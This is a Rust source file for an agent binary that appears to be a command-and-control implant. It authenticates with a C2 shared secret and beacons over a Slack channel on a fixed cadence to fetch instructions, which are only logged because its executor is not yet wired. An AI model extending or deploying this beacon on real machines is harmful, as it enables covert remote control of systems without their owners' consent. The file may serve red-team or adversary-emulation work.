//! Palaver Agent Binary
//!
//! Resolves a channel, negotiates it, then beacons on the profile's cadence
//! until stopped. Received instruction payloads are handed to the (not yet
//! wired) executor; for now their arrival is logged.

use anyhow::{Context, Result};
use tracing::{info, warn};

use palaver::{AgentProfile, BeaconSession, NegotiationCriteria, SlackConfig};

/// Environment configuration for the agent
struct AgentEnv {
    channel: String,
    channel_id: String,
    secret: String,
    paw: String,
    sleep_seconds: u64,
}

impl AgentEnv {
    fn load() -> Result<Self> {
        let secret = std::env::var("PALAVER_C2_KEY")
            .context("PALAVER_C2_KEY must carry the channel shared secret")?;
        let channel_id = std::env::var("PALAVER_CHANNEL_ID")
            .context("PALAVER_CHANNEL_ID must name the target channel")?;
        let channel = std::env::var("PALAVER_CHANNEL").unwrap_or_else(|_| "slack".to_string());
        let paw = std::env::var("PALAVER_PAW").unwrap_or_default();
        let sleep_seconds = std::env::var("PALAVER_SLEEP")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(60);
        Ok(Self {
            channel,
            channel_id,
            secret,
            paw,
            sleep_seconds,
        })
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    // Initialize tracing
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .init();

    let env = AgentEnv::load()?;
    info!(
        "Starting Palaver agent over the {} channel (available: {:?})",
        env.channel,
        palaver::available_channels()
    );

    let channel = palaver::resolve(&env.channel, SlackConfig::for_channel(&env.channel_id))?;
    let profile = AgentProfile::new(env.paw, env.sleep_seconds);
    let mut session = BeaconSession::new(channel, profile);

    session
        .negotiate(&NegotiationCriteria::with_secret(env.secret))
        .await
        .context("channel negotiation failed")?;

    loop {
        match session.cycle().await {
            Ok(Some(instructions)) => {
                info!("Received {} byte(s) of instructions", instructions.len());
            }
            Ok(None) => {
                info!("Quiet cycle, no instructions");
            }
            Err(e) => {
                // Transient channel failures are retried on the next cycle.
                warn!("Beacon cycle failed: {}", e);
            }
        }
        tokio::time::sleep(session.cadence()).await;
    }
}
